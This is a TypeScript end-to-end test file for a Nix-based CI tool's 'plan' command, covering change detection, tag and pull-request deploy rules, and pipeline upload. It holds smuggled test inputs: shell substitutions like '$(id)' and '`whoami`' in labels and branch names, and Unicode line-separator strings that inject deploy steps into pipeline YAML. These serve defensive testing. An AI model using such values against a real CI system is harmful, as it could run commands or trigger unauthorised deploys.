import { assert, describe, it } from "@effect/vitest"
import { execFileSync, spawnSync } from "node:child_process"
import { mkdtempSync, readFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { inject } from "vitest"
import { parse } from "yaml"
import { runBuild } from "../support/buildkiteBuild.ts"
import { fixtureFlake, FixtureRepo } from "../support/fixtureRepo.ts"
import { injection } from "../support/hostile.ts"
import { interpolatePipeline } from "../support/interpolate.ts"
import { repoRoot, stubBin } from "../support/paths.ts"
import { parseWithLibyaml, pipelineErrors, yamlPipelineErrors } from "../support/pipelineSchema.ts"
import { runTool } from "../support/tool.ts"

/**
 * `tool plan` end to end: fixture flakes with several commits, real git and nix,
 * the stand-in buildkite-agent, and every pipeline checked against the official schema.
 */

interface Versions {
  readonly lib?: string
  readonly other?: string
  readonly extra?: boolean
  readonly conditions?: string
}

/** A Nix string literal of text whose only control characters are `\n`, `\r` and `\t` (JSON escapes them as Nix does). */
const nixString = (text: string) => JSON.stringify(text).replaceAll("${", "\\${")

/** The STEP_DATA `flakeAt`'s action declares: what its trigger step carries. */
const declaredStepData = {
  version: 1,
  action: "deployBot",
  system: "x86_64-linux",
  steps: [
    { type: "run", name: "staging", label: "Deploy to staging", target: ".#apps.x86_64-linux.deploy", retries: 0 },
    { type: "block", label: null, prompt: null },
    { type: "run", name: "production", label: "Deploy to production", target: ".#apps.x86_64-linux.deploy", retries: 2 }
  ]
}

// `app` depends on `lib`; `default` is `app` under another name.
const flakeAt = (versions: Versions = {}) =>
  fixtureFlake({
    outputs: `
      packages.x86_64-linux = {
        lib = drv "lib" [ "${versions.lib ?? "1"}" ];
        app = drv "app" [ "1" p.lib ];
        other = drv "other" [ "${versions.other ?? "1"}" ];
        default = p.app;
        ${versions.extra === true ? `extra = drv "extra" [ "1" ];` : ""}
      };
      apps.x86_64-linux = { deploy = app "deploy"; lint = app "lint"; };`,
    ciActions: `ci.lib.mkActions {
        inherit self;
        actions = { system }: {
          deployBot = {
            conditions = ${versions.conditions ?? `[ { tag = "v.*"; } { branch = "master"; } { changed = [ p.app ]; } ]`};
            checks = [ { name = "lint"; displayName = "Lint the bot"; target = a.lint; } ];
            deploySteps = [
              { name = "staging"; label = "Deploy to staging"; target = a.deploy; }
              { type = "block"; }
              { name = "production"; label = "Deploy to production"; target = a.deploy; retries = 2; }
            ];
          };
        };
      }`
  })

interface PlanJson {
  readonly base: string | null
  readonly baseUnavailable: string | null
  readonly head: string
  readonly changed: ReadonlyArray<{ attrPath: string; base: string | null; head: string | null }>
  readonly actions: ReadonlyArray<{ name: string; triggered: boolean; conditions: ReadonlyArray<{ kind: string; ok: boolean; detail: string }>; deployWithheld: string | null }>
  readonly builds: ReadonlyArray<{ attrPath: string; reasons: ReadonlyArray<string> }>
  readonly warnings: ReadonlyArray<string>
  readonly pipeline: { steps: ReadonlyArray<any> }
}

const system = ["--system", "x86_64-linux"]
/** The plugin steps use by default: the one of the tool's own version. */
const plugin = `denbeigh2000/cicd#v${JSON.parse(readFileSync(`${repoRoot}package.json`, "utf8")).version}`

const planJson = (cwd: string, args: ReadonlyArray<string> = [], env: Record<string, string> = {}): PlanJson => {
  const run = runTool(["plan", "--dry-run", "--format", "json", ...system, ...args], { cwd, env })
  assert.strictEqual(run.exitCode, 0, run.stderr)
  const plan = JSON.parse(run.stdout) as PlanJson
  assert.deepStrictEqual(pipelineErrors(plan.pipeline), [])
  return plan
}

const newRepo = () => FixtureRepo.create(inject("ciSnapshot"))

const buildCommand = (plan: PlanJson) => plan.pipeline.steps.find((step) => step.key === "build-nix")?.command as string | undefined

describe("tool plan: what changed", () => {
  const repo = newRepo()
  const first = repo.commit("first", { "flake.nix": flakeAt() })
  const readme = repo.commit("docs only", { "README.md": "hello\n" })
  const libChanged = repo.commit("lib 2", { "flake.nix": flakeAt({ lib: "2" }) })
  const extraAdded = repo.commit("extra", { "flake.nix": flakeAt({ lib: "2", extra: true }) })

  it("builds nothing when no output changed", () => {
    const plan = planJson(repo.dir, ["--head", readme])
    assert.strictEqual(plan.base, first)
    assert.deepStrictEqual(plan.changed, [])
    assert.deepStrictEqual(plan.builds, [])
    assert.deepStrictEqual(plan.pipeline.steps, [])

    const yaml = runTool(["plan", "--dry-run", ...system, "--head", readme], { cwd: repo.dir })
    assert.strictEqual(yaml.stdout.trim(), "steps: []")
    assert.deepStrictEqual(yamlPipelineErrors(yaml.stdout), [])
  })

  it("uploads nothing when there is nothing to run", () => {
    const run = runTool(["plan", ...system, "--head", readme], { cwd: repo.dir, env: { BUILDKITE: "true" } })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    assert.include(run.stderr, "nothing to run")
    // Only the plan's annotation: what it compared with, and that nothing changed.
    assert.deepStrictEqual(run.agentCalls.map((call) => call.args), [["annotate", "--style", "info", "--context", "ci-plan"]])
    assert.include(run.agentCalls[0]!.stdin, `**Changed:** 0 outputs`)
  })

  it("builds exactly the changed package and what depends on it", () => {
    const plan = planJson(repo.dir, ["--head", libChanged])
    assert.strictEqual(plan.base, readme)
    // Names in Nix's order (alphabetical), with `default` last.
    assert.deepStrictEqual(plan.changed.map((change) => change.attrPath), [
      "packages.x86_64-linux.app",
      "packages.x86_64-linux.lib",
      "packages.x86_64-linux.default"
    ])
    for (const change of plan.changed) {
      assert.match(change.base ?? "", /^\/nix\/store\/[0-9a-z]{32}-/)
      assert.match(change.head ?? "", /^\/nix\/store\/[0-9a-z]{32}-/)
      assert.notStrictEqual(change.base, change.head)
    }
    // `default` is the same derivation as `app`: built once, under its own name.
    assert.deepStrictEqual(plan.builds.map((build) => build.attrPath), ["packages.x86_64-linux.app", "packages.x86_64-linux.lib"])
    assert.strictEqual(
      buildCommand(plan),
      `nix run "$\${TOOL_TARGET}" -- build -- '.#packages.x86_64-linux.app' '.#packages.x86_64-linux.lib'`
    )
    // Not a tag build: the deploy action does not trigger, so no check runs.
    const action = plan.actions[0]!
    assert.isFalse(action.triggered)
    assert.deepStrictEqual(action.conditions.map((condition) => condition.ok), [false, true, true])
    assert.strictEqual(action.conditions[0]!.detail, `not a tag build (tag must match "v.*")`)
  })

  it("counts an attribute new at head as changed", () => {
    const plan = planJson(repo.dir, ["--head", extraAdded])
    assert.deepStrictEqual(plan.changed.map((change) => [change.attrPath, change.base]), [["packages.x86_64-linux.extra", null]])
    assert.deepStrictEqual(plan.builds.map((build) => build.attrPath), ["packages.x86_64-linux.extra"])
  })

  it("compares with --base when it is given", () => {
    const plan = planJson(repo.dir, ["--base", first, "--head", extraAdded])
    assert.strictEqual(plan.base, first)
    assert.deepStrictEqual(plan.changed.map((change) => change.attrPath), [
      "packages.x86_64-linux.app",
      "packages.x86_64-linux.extra",
      "packages.x86_64-linux.lib",
      "packages.x86_64-linux.default"
    ])
  })
})

describe("tool plan: a base that cannot be used", () => {
  const everything = [
    "packages.x86_64-linux.app",
    "packages.x86_64-linux.lib",
    "packages.x86_64-linux.other",
    "packages.x86_64-linux.default",
    "apps.x86_64-linux.deploy",
    "apps.x86_64-linux.lint"
  ]

  it("treats everything as changed when the base fails to evaluate", () => {
    const repo = newRepo()
    repo.commit("valid", { "flake.nix": flakeAt() })
    const broken = repo.commit("broken", { "flake.nix": "{ outputs = { self }: { " })
    const head = repo.commit("fixed", { "flake.nix": flakeAt() })
    const plan = planJson(repo.dir)
    assert.strictEqual(plan.head, head)
    assert.isNull(plan.base)
    assert.match(plan.baseUnavailable ?? "", new RegExp(`^base ${broken.slice(0, 12)} could not be evaluated: .*syntax error`))
    assert.deepStrictEqual(plan.changed.map((change) => change.attrPath), everything)
    assert.isTrue(plan.changed.every((change) => change.base === null))
    assert.include(plan.warnings.join("\n"), "everything counts as changed")
  })

  it("treats everything as changed when the base has no ciActions", () => {
    const repo = newRepo()
    const base = repo.commit("no ci yet", { "flake.nix": fixtureFlake({ outputs: `packages.x86_64-linux.lib = drv "lib" [ "1" ];` }) })
    repo.commit("ci", { "flake.nix": flakeAt() })
    const plan = planJson(repo.dir)
    assert.strictEqual(plan.baseUnavailable, `base ${base.slice(0, 12)} has no ciActions output`)
    assert.deepStrictEqual(plan.changed.map((change) => change.attrPath), everything)
  })

  it("plans a shallow clone that lacks the base commit", () => {
    const repo = newRepo()
    repo.commit("first", { "flake.nix": flakeAt() })
    const head = repo.commit("lib 2", { "flake.nix": flakeAt({ lib: "2" }) })
    const clone = join(mkdtempSync(join(tmpdir(), "ci-shallow-")), "clone")
    execFileSync("git", ["clone", "--quiet", "--depth", "1", `file://${repo.dir}`, clone])
    const plan = planJson(clone)
    assert.strictEqual(plan.head, head)
    assert.strictEqual(plan.baseUnavailable, `the previous commit of ${head.slice(0, 12)} is not in this shallow clone`)
    assert.deepStrictEqual(plan.changed.map((change) => change.attrPath), everything)
  })

  it("treats everything as changed on the first commit", () => {
    const repo = newRepo()
    const head = repo.commit("first", { "flake.nix": flakeAt() })
    assert.strictEqual(planJson(repo.dir).baseUnavailable, `${head.slice(0, 12)} is the first commit`)
  })
})

describe("tool plan: tags, branches and pull requests", () => {
  const repo = newRepo()
  repo.addOrigin()
  repo.commit("first", { "flake.nix": flakeAt() })
  const onMaster = repo.commit("app changes", { "flake.nix": flakeAt({ lib: "2" }) })
  repo.git("checkout", "--quiet", "-b", "feature")
  const onFeature = repo.commit("more", { "flake.nix": flakeAt({ lib: "3" }) })
  repo.publish("master", "feature")

  const tagBuild = (tag: string, commit: string) => ({
    BUILDKITE: "true",
    BUILDKITE_TAG: tag,
    BUILDKITE_BRANCH: tag,
    BUILDKITE_COMMIT: commit,
    BUILDKITE_REPO: "git@example.com:me/repo.git",
    BUILDKITE_PIPELINE_SLUG: "repo",
    BUILDKITE_BUILD_NUMBER: "42",
    BUILDKITE_MESSAGE: "app changes"
  })

  it("deploys on a tag of a commit on master", () => {
    const plan = planJson(repo.dir, [], tagBuild("v1.2.0", onMaster))
    const action = plan.actions[0]!
    assert.isTrue(action.triggered)
    assert.deepStrictEqual(action.conditions.map((condition) => condition.detail), [
      `tag "v1.2.0" matches "v.*"`,
      `tag build: the commit is on remote branch "master", which matches "master"`,
      "packages.x86_64-linux.app changed"
    ])
    const [check, wait1, build, wait2, trigger] = plan.pipeline.steps
    assert.deepStrictEqual([wait1, wait2], ["wait", "wait"])
    assert.strictEqual(check.label, "Check: Lint the bot")
    assert.strictEqual(check.command, `nix run "$\${TOOL_TARGET}" -- check --target '.#apps.x86_64-linux.lint' --name lint`)
    assert.deepStrictEqual(check.env, {
      DENBEIGH_MANAGED: "true",
      DENBEIGH_DEPLOY: "false",
      BUILDKITE_PLUGIN_CICD_OPERATION: "check",
      TOOL_TARGET: "github:denbeigh2000/ci#tool"
    })
    assert.deepStrictEqual(check.plugins, [{ [plugin]: { repo: "git@example.com:me/repo.git" } }])
    assert.include(build.command, "'.#apps.x86_64-linux.deploy' '.#apps.x86_64-linux.lint'")
    assert.strictEqual(trigger.trigger, "deploy")
    assert.strictEqual(trigger.build.commit, onMaster)
    assert.strictEqual(trigger.build.branch, "v1.2.0")
    assert.strictEqual(trigger.build.message, "Deploy deployBot from repo#42: app changes")
    assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY, "true")
    assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY_ACTION_NAME, "deployBot")
    assert.deepStrictEqual(JSON.parse(trigger.build.env.STEP_DATA), declaredStepData)
  })

  it("does not deploy a tag whose commit is on no matching branch", () => {
    const plan = planJson(repo.dir, [], tagBuild("v1.3.0", onFeature))
    const action = plan.actions[0]!
    assert.isFalse(action.triggered)
    assert.strictEqual(action.conditions[1]!.detail, `tag build: the commit is on only "feature", none matching "master"`)
    assert.isUndefined(plan.pipeline.steps.find((step) => step.trigger !== undefined))
  })

  it("matches the whole tag, not a part of it", () => {
    const plan = planJson(repo.dir, [], tagBuild("release-v1", onMaster))
    assert.strictEqual(plan.actions[0]!.conditions[0]!.detail, `tag "release-v1" does not match "v.*"`)
    assert.isFalse(plan.actions[0]!.triggered)
  })

  it("does not deploy a branch build", () => {
    const plan = planJson(repo.dir, [], { BUILDKITE: "true", BUILDKITE_BRANCH: "master", BUILDKITE_COMMIT: onMaster })
    assert.deepStrictEqual(plan.actions[0]!.conditions.map((condition) => condition.ok), [false, true, true])
  })

  it("plans a tag locally with --tag and --branch", () => {
    const local = planJson(repo.dir, ["--head", onFeature, "--tag", "v9", "--branch", "master"])
    assert.isTrue(local.actions[0]!.triggered)
    // No BUILDKITE_REPO: the plugin by name alone, not `name: null`.
    assert.deepStrictEqual(local.pipeline.steps[0].plugins, [plugin])
  })

  it("never deploys from a pull request, and says so", () => {
    const prRepo = newRepo()
    prRepo.addOrigin()
    const changedOnly = `[ { changed = [ p.app ]; } ]`
    const mergeBase = prRepo.commit("first", { "flake.nix": flakeAt({ conditions: changedOnly }) })
    prRepo.commit("master moves on", { "flake.nix": flakeAt({ conditions: changedOnly, other: "2" }) })
    prRepo.publish("master")
    prRepo.git("checkout", "--quiet", "-b", "pr", mergeBase)
    const head = prRepo.commit("pr changes lib", { "flake.nix": flakeAt({ conditions: changedOnly, lib: "2" }) })

    const plan = planJson(prRepo.dir, [], {
      BUILDKITE: "true",
      BUILDKITE_BRANCH: "pr",
      BUILDKITE_COMMIT: head,
      BUILDKITE_PULL_REQUEST: "12",
      BUILDKITE_PULL_REQUEST_BASE_BRANCH: "master"
    })
    assert.strictEqual(plan.base, mergeBase)
    // Only what the pull request changed: master's change to `other` is not in it.
    assert.isFalse(plan.changed.some((change) => change.attrPath === "packages.x86_64-linux.other"))
    const action = plan.actions[0]!
    assert.isTrue(action.triggered)
    assert.strictEqual(action.deployWithheld, "pull request #12: a pull-request build never deploys")
    assert.include(plan.warnings, "deployBot would deploy, but pull request #12: a pull-request build never deploys")
    assert.isUndefined(plan.pipeline.steps.find((step) => step.trigger !== undefined))
    assert.isDefined(plan.pipeline.steps.find((step) => step.key === "check-lint"))
  })
})

describe("tool plan: upload, deploy mode and hostile text", () => {
  const repo = newRepo()
  repo.addOrigin()
  repo.commit("first", { "flake.nix": flakeAt() })
  const head = repo.commit("lib 2", { "flake.nix": flakeAt({ lib: "2" }) })
  repo.publish("master")
  const tagBuild = { BUILDKITE: "true", BUILDKITE_TAG: "v2", BUILDKITE_BRANCH: "v2", BUILDKITE_COMMIT: head }

  it("uploads the pipeline it plans, once, through buildkite-agent", () => {
    const dryRun = runTool(["plan", "--dry-run", ...system], { cwd: repo.dir, env: tagBuild })
    const run = runTool(["plan", ...system], { cwd: repo.dir, env: tagBuild })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    assert.strictEqual(run.stdout, "")
    // The plan's annotation, why each build changed and the declared actions (both for the bot), then the one upload.
    assert.deepStrictEqual(run.agentCalls.map((call) => call.args.slice(0, 3)), [
      ["annotate", "--style", "info"],
      ["meta-data", "set", "ci:plan:why"],
      ["meta-data", "set", "ci:plan:actions"],
      ["pipeline", "upload"]
    ])
    const why = JSON.parse(run.agentCalls[1]!.stdin) as { version: number; lines: Record<string, string> }
    const planned = planJson(repo.dir, [], tagBuild)
    assert.strictEqual(why.version, 1)
    assert.deepStrictEqual(Object.keys(why.lines), planned.builds.filter((build) => build.reasons.some((reason) => reason.endsWith(" changed"))).map((build) => build.attrPath))
    assert.deepStrictEqual(JSON.parse(run.agentCalls[2]!.stdin), ["deployBot"])
    const upload = run.agentCalls[3]!
    assert.strictEqual(upload.stdin.trim(), dryRun.stdout.trim())
    assert.deepStrictEqual(yamlPipelineErrors(upload.stdin), [])
  })

  it("fails clearly when the upload is refused", () => {
    const run = runTool(["plan", ...system], { cwd: repo.dir, env: { ...tagBuild, CI_TEST_AGENT_FAIL: "pipeline upload" } })
    assert.strictEqual(run.exitCode, 1)
    assert.match(run.stderr, /error: buildkite-agent pipeline upload failed: buildkite-agent pipeline upload exited with code 1:\nfatal: pipeline upload refused by the stand-in/)
  })

  it("renders the deploy pipeline from the STEP_DATA the trigger step carries", () => {
    const ci = planJson(repo.dir, [], tagBuild)
    const trigger = ci.pipeline.steps.find((step) => step.trigger !== undefined)
    // What the deploy build's environment holds once Buildkite has interpolated the upload.
    const { value } = interpolatePipeline(trigger, {})
    const env = (value as { build: { env: Record<string, string> } }).build.env

    const run = runTool(["plan", "--dry-run", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", ...env } })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    assert.deepStrictEqual(yamlPipelineErrors(run.stdout), [])
    const steps = parse(run.stdout).steps
    assert.strictEqual(steps.length, 3)
    assert.strictEqual(steps[0].label, "Deploy to staging")
    assert.strictEqual(steps[0].command, `nix run "$\${TOOL_TARGET}" -- deploy --target '.#apps.x86_64-linux.deploy' --name staging`)
    assert.strictEqual(steps[0].env.DENBEIGH_DEPLOY, "true")
    assert.strictEqual(steps[0].env.DENBEIGH_DEPLOY_ACTION_NAME, "deployBot")
    assert.deepStrictEqual(steps[1], { block: "Continue to Deploy to production?", key: "block-1" })
    assert.strictEqual(steps[2].command, `nix run "$\${TOOL_TARGET}" -- deploy --target '.#apps.x86_64-linux.deploy' --name production --retries 2`)

    const upload = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", ...env } })
    assert.strictEqual(upload.exitCode, 0, upload.stderr)
    assert.deepStrictEqual(upload.agentCalls.map((call) => call.args), [["pipeline", "upload"]])
  })

  it("rejects a deploy build without usable STEP_DATA", () => {
    const missing = runTool(["plan", ...system], { cwd: repo.dir, env: { DENBEIGH_DEPLOY: "true" } })
    assert.strictEqual(missing.exitCode, 2)
    assert.include(missing.stderr, "error: STEP_DATA: DENBEIGH_DEPLOY is true but STEP_DATA is not set")
    const invalid = runTool(["plan", ...system], {
      cwd: repo.dir,
      env: { DENBEIGH_DEPLOY: "true", STEP_DATA: JSON.stringify({ version: 1, action: "x", system: "x86_64-linux", steps: [{ type: "comand" }] }) }
    })
    assert.strictEqual(invalid.exitCode, 2)
    assert.match(invalid.stderr, /error: STEP_DATA: [\s\S]*\["steps"\]\[0\]/)
    assert.deepStrictEqual([...missing.agentCalls, ...invalid.agentCalls], [])
  })

  it("keeps branch, tag, message and labels literal through Buildkite's interpolation", () => {
    const hostile = newRepo()
    const labels = {
      check: "Lint $HOME `whoami` $(id) ${X}",
      step: "Ship \"it\": 'now' # & * ! | > % @ ${X:-x} $1",
      block: "Really?\nReally: yes - $$ done"
    }
    const flake = (lib: string) => fixtureFlake({
      outputs: `packages.x86_64-linux.lib = drv "lib" [ "${lib}" ];\n      apps.x86_64-linux.deploy = app "deploy";`,
      ciActions: `ci.lib.mkActions { inherit self; actions = {
        "deploy $HOME" = {
          conditions = [ { changed = [ p.lib ]; } ];
          checks = [ { name = "lint $X"; displayName = ${nixString(labels.check)}; target = a.deploy; } ];
          deploySteps = [
            { name = "ship"; label = ${nixString(labels.step)}; target = a.deploy; }
            { type = "block"; label = ${nixString(labels.block)}; }
          ];
        };
      }; }`
    })
    hostile.commit("first", { "flake.nix": flake("1") })
    const commit = hostile.commit("second", { "flake.nix": flake("2") })
    const branch = "feat/$HOME-${X}-$(id)-`id`-'q'\"dq\": #x"
    const message = "Fix: costs $5 & ${X:-y}\n\n- item: `rm -rf` | > &anchor *alias !tag %"
    const env = {
      BUILDKITE: "true",
      BUILDKITE_BRANCH: branch,
      BUILDKITE_COMMIT: commit,
      BUILDKITE_MESSAGE: message,
      BUILDKITE_REPO: "git@example.com:$HOME/repo.git"
    }
    const run = runTool(["plan", ...system], { cwd: hostile.dir, env })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    const uploaded = run.agentCalls.find((call) => call.args.join(" ") === "pipeline upload")!.stdin
    assert.deepStrictEqual(yamlPipelineErrors(uploaded), [])

    const { value, expansions } = interpolatePipeline(parse(uploaded), { HOME: "/root", X: "expanded" })
    assert.deepStrictEqual(expansions, [])
    const steps = (value as { steps: Array<any> }).steps
    const check = steps.find((step) => step.key === "check-lint-X")
    assert.strictEqual(check.label, `Check: ${labels.check}`)
    assert.include(check.command, `--name 'lint $X'`)
    assert.deepStrictEqual(check.plugins, [{ [plugin]: { repo: env.BUILDKITE_REPO } }])
    const trigger = steps.find((step) => step.trigger !== undefined)
    assert.strictEqual(trigger.label, ":rocket: Deploy deploy $HOME")
    assert.strictEqual(trigger.build.branch, branch)
    assert.strictEqual(trigger.build.message, "Deploy deploy $HOME: Fix: costs $5 & ${X:-y}")
    const stepData = JSON.parse(trigger.build.env.STEP_DATA)
    assert.strictEqual(stepData.action, "deploy $HOME")
    assert.strictEqual(stepData.steps[0].label, labels.step)
    assert.strictEqual(stepData.steps[1].label, labels.block)

    // The deploy pipeline carries the same labels through a second upload.
    const deploy = runTool(["plan", ...system], { cwd: hostile.dir, env: { BUILDKITE: "true", ...trigger.build.env } })
    assert.strictEqual(deploy.exitCode, 0, deploy.stderr)
    const deployed = interpolatePipeline(parse(deploy.agentCalls[0]!.stdin), { HOME: "/root", X: "expanded" })
    assert.deepStrictEqual(deployed.expansions, [])
    const deploySteps = (deployed.value as { steps: Array<any> }).steps
    assert.strictEqual(deploySteps[0].label, labels.step)
    assert.strictEqual(deploySteps[1].block, labels.block)
  })
})

describe("tool plan: bad input", () => {
  const repo = newRepo()
  repo.commit("first", { "flake.nix": flakeAt() })

  it.each([
    { args: ["--head", "no-such-rev"], error: "error: --head: no-such-rev is not a commit in" },
    { args: ["--flake", tmpdir()], error: `error: --flake: ${tmpdir()} is not in a git checkout` },
    { args: ["--format", "xml"], error: "Invalid value for flag --format" }
  ])("rejects $args with exit code 2", ({ args, error }) => {
    const run = runTool(["plan", ...system, ...args], { cwd: repo.dir })
    assert.strictEqual(run.exitCode, 2, run.stderr)
    assert.include(run.stderr, error)
    assert.deepStrictEqual(run.agentCalls, [])
  })

  it("rejects a head whose flake does not parse", () => {
    repo.commit("broken", { "flake.nix": "{ outputs = { self }: { " })
    const run = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true" } })
    assert.strictEqual(run.exitCode, 2)
    assert.match(run.stderr, /error: syntax error, unexpected end of file/)
    assert.deepStrictEqual(run.agentCalls, [])
  })

  it("explains a flake.lock that does not lock an input", () => {
    const unlocked = newRepo()
    unlocked.write({ "flake.nix": flakeAt() })
    unlocked.git("add", "flake.nix")
    unlocked.git("commit", "--quiet", "--message", "no lock")
    const run = runTool(["plan", ...system], { cwd: unlocked.dir })
    assert.strictEqual(run.exitCode, 2)
    assert.include(run.stderr, "run `nix flake lock` and commit flake.lock")
  })

  it("plans a flake in a subdirectory with installables relative to the repository", () => {
    const nested = newRepo()
    nested.commit("first", { "infra/flake.nix": flakeAt() })
    nested.commit("second", { "infra/flake.nix": flakeAt({ other: "2" }) })
    const plan = planJson(nested.dir, ["--flake", join(nested.dir, "infra")])
    assert.strictEqual(buildCommand(plan), `nix run "$\${TOOL_TARGET}" -- build -- './infra#packages.x86_64-linux.other'`)
  })
})

/** Run each part's uploading step as the agent would (`bash -e -c`), against the stand-in agent and the build's meta-data. */
const runUploaderStep = (agentState: string) => (step: { readonly command: string }): ReadonlyArray<string> => {
  const log = join(mkdtempSync(join(tmpdir(), "ci-uploader-")), "calls.jsonl")
  const run = spawnSync("bash", ["-e", "-c", step.command], {
    encoding: "utf8",
    env: { ...process.env, PATH: `${stubBin}:${process.env.PATH}`, CI_TEST_AGENT_LOG: log, CI_TEST_AGENT_STATE: agentState }
  })
  assert.strictEqual(run.status, 0, run.stderr)
  return readFileSync(log, "utf8").split("\n").filter((line) => line !== "").map((line) => JSON.parse(line))
    .filter((call: { args: Array<string> }) => call.args.join(" ") === "pipeline upload")
    .map((call: { stdin: string }) => call.stdin)
}

/** What the agent reads: the upload parsed by libyaml, after checking that every parser reads it alike. */
const asTheAgentReadsIt = (upload: string, env: Record<string, string> = {}) => {
  assert.deepStrictEqual(yamlPipelineErrors(upload), [])
  const [parsed] = parseWithLibyaml([upload])
  return interpolatePipeline((parsed as { documents: Array<unknown> }).documents[0], env).value as { steps: Array<any> }
}

describe("tool plan: text a pull request controls never changes the pipeline's shape", () => {
  const repo = newRepo()
  // Where a pull request's flake puts free text: each the reported injection, or a YAML 1.1 scalar.
  const text = {
    displayName: injection("\u2028"),
    stepLabel: injection("\u2029"),
    blockLabel: injection("\u0085"),
    blockPrompt: "yes",
    secondLabel: ".inf"
  }
  const flake = (lib: string) => fixtureFlake({
    outputs: `packages.x86_64-linux = { lib = drv "lib" [ "${lib}" ]; "1_000" = drv "n" [ "${lib}" ]; };
      apps.x86_64-linux = { deploy = app "deploy"; "0x_1F" = app "hex"; };`,
    ciActions: `ci.lib.mkActions { inherit self; actions = {
      "1_000" = {
        conditions = [ { changed = [ p.lib ]; } ];
        checks = [ { name = "0b101"; displayName = ${nixString(text.displayName)}; target = a."0x_1F"; } ];
        deploySteps = [
          { name = "0x_1F"; label = ${nixString(text.stepLabel)}; target = a.deploy; }
          { type = "block"; label = ${nixString(text.blockLabel)}; prompt = ${nixString(text.blockPrompt)}; }
          { name = "2024-01-15"; label = ${nixString(text.secondLabel)}; target = a."0x_1F"; }
        ];
      };
    }; }`
  })
  repo.commit("first", { "flake.nix": flake("1") })
  const commit = repo.commit("second", { "flake.nix": flake("2") })

  const refs = [
    { name: "a branch with the injection", env: { BUILDKITE_BRANCH: injection("\u2028"), BUILDKITE_MESSAGE: `${injection("\u2029")}\n\nbody` } },
    { name: "a tag with the injection", env: { BUILDKITE_TAG: `v1${injection("\u0085")}`, BUILDKITE_BRANCH: `v1${injection("\u0085")}`, BUILDKITE_MESSAGE: injection("\u0085") } },
    { name: "YAML 1.1 numbers and booleans", env: { BUILDKITE_BRANCH: "2024_01_15", BUILDKITE_MESSAGE: "on" } }
  ]

  it.each(refs)("uploads exactly the planned steps for $name, and the deploy build its own", ({ env }) => {
    const agentState = mkdtempSync(join(tmpdir(), "ci-agent-state-"))
    const run = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_COMMIT: commit, ...env }, agentState })
    assert.strictEqual(run.exitCode, 0, run.stderr)
    const uploads = run.agentCalls.filter((call) => call.args.join(" ") === "pipeline upload")
    assert.strictEqual(uploads.length, 1)
    const { steps } = asTheAgentReadsIt(uploads[0]!.stdin)

    assert.deepStrictEqual(steps.map((step) => typeof step === "string" ? step : step.trigger !== undefined ? "trigger" : step.key), [
      "check-0b101",
      "wait",
      "build-nix",
      "wait",
      "trigger"
    ])
    assert.isFalse(steps.some((step) => typeof step === "object" && "agents" in step))
    assert.strictEqual(steps[0].label, `Check: ${text.displayName}`)
    assert.strictEqual(steps[0].command, `nix run "\${TOOL_TARGET}" -- check --target '.#apps.x86_64-linux.0x_1F' --name 0b101`)
    assert.strictEqual(steps[2].command, `nix run "\${TOOL_TARGET}" -- build -- '.#packages.x86_64-linux.1_000' '.#packages.x86_64-linux.lib' '.#apps.x86_64-linux.0x_1F' '.#apps.x86_64-linux.deploy'`)
    const trigger = steps[4]
    assert.strictEqual(trigger.trigger, "deploy")
    assert.strictEqual(trigger.label, ":rocket: Deploy 1_000")
    assert.strictEqual(trigger.build.branch, env.BUILDKITE_BRANCH)
    assert.strictEqual(trigger.build.message, `Deploy 1_000: ${env.BUILDKITE_MESSAGE.split(/[\n\u0085\u2028\u2029]/)[0]}`)
    assert.strictEqual(trigger.build.env.DENBEIGH_DEPLOY_ACTION_NAME, "1_000")
    assert.strictEqual(trigger.build.meta_data["ci:deploy-action"], "1_000")
    const stepData = JSON.parse(trigger.build.env.STEP_DATA)
    assert.deepStrictEqual(stepData.steps.map((step: { label?: string | null }) => step.label), [text.stepLabel, text.blockLabel, text.secondLabel])

    // The deploy build, started with the environment the trigger step gives it.
    const deploy = runTool(["plan", ...system], { cwd: repo.dir, env: { BUILDKITE: "true", BUILDKITE_COMMIT: commit, ...trigger.build.env } })
    assert.strictEqual(deploy.exitCode, 0, deploy.stderr)
    const deploySteps = asTheAgentReadsIt(deploy.agentCalls.at(-1)!.stdin).steps
    assert.deepStrictEqual(deploySteps.map((step) => step.key), ["deploy-0x_1F", "block-1", "deploy-2024-01-15"])
    assert.strictEqual(deploySteps[0].label, text.stepLabel)
    assert.strictEqual(deploySteps[0].env.DENBEIGH_DEPLOY_ACTION_NAME, "1_000")
    assert.deepStrictEqual(deploySteps[1], { block: text.blockLabel, key: "block-1", prompt: "yes" })
    assert.strictEqual(deploySteps[2].label, ".inf")
    assert.strictEqual(deploySteps[2].command, `nix run "\${TOOL_TARGET}" -- deploy --target '.#apps.x86_64-linux.0x_1F' --name 2024-01-15`)
  })
})

describe("tool plan: names no one means are refused at evaluation", () => {
  const repo = newRepo()
  const outputs = `packages.x86_64-linux.lib = drv "lib" [ "1" ];\n      apps.x86_64-linux.deploy = app "deploy";`
  const base = repo.commit("valid", { "flake.nix": fixtureFlake({ outputs, ciActions: `ci.lib.mkActions { inherit self; actions = { }; }` }) })
  const action = (name: string, body: string) => `ci.lib.mkActions { inherit self; actions = { ${nixString(name)} = { ${body} }; }; }`

  it.each([
    {
      name: "a check name",
      ciActions: action("deployBot", `checks = [ { name = ${nixString(injection("\u2028"))}; target = a.deploy; } ];`),
      error: `ciActions.deployBot.checks[0].name: expected a name without control or invisible characters (found U+2028), got "x\\u2028  - trigger: deploy\\u2028    build:`
    },
    {
      name: "a deploy step name",
      ciActions: action("deployBot", `deploySteps = [ { name = ${nixString(injection("\u0085"))}; target = a.deploy; } ];`),
      error: `ciActions.deployBot.deploySteps[0].name: expected a name without control or invisible characters (found U+0085), got "x\\u0085  - trigger: deploy`
    },
    {
      name: "an action name",
      ciActions: action(injection("\u2029"), `checks = [ ];`),
